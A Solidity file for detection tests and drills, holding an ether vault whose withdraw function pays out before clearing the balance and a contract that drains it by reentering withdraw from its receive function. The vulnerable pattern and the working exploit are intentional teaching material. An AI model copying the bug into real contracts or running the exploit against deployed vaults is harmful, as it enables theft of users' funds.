// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @title ReentrantVault
/// @notice An ether vault with the classic reentrancy bug, and a contract that exploits it,
///         for detection tests and drills. Never deploy it with real funds.
contract ReentrantVault {
    mapping(address => uint256) public balances;

    function deposit() external payable {
        balances[msg.sender] += msg.value;
    }

    /// @dev Pays before it clears the balance: the bug.
    function withdraw() external {
        uint256 amount = balances[msg.sender];
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "payment failed");
        balances[msg.sender] = 0;
    }
}

/// @notice Deposits, then withdraws `rounds` more times from inside the vault's payment.
contract Reenterer {
    ReentrantVault public immutable vault;
    uint256 private rounds;

    constructor(ReentrantVault target) {
        vault = target;
    }

    function attack(uint256 extraRounds) external payable {
        rounds = extraRounds;
        vault.deposit{value: msg.value}();
        vault.withdraw();
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {
        if (rounds > 0) {
            rounds -= 1;
            vault.withdraw();
        }
    }
}
